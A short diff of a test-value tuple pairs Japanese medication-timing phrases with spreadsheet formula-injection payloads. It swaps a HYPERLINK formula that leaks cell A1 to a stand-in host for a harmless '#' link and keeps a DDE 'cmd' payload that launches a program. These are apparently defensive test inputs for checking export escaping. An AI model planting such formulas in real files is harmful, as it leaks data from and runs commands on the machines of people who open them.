@@ -23,7 +23,7 @@ OPEN_VALUES = (
     "就寝前",
     "+SUM(1,2)",
     "頓用",
-    '=HYPERLINK("http://example.invalid/?"&A1,"毎食後")',
+    '=HYPERLINK("#"&A1,"毎食後")',
     "1日1回朝食後",
     "-2+3+cmd|' /C calc'!A0",
     "-1錠へ減量",
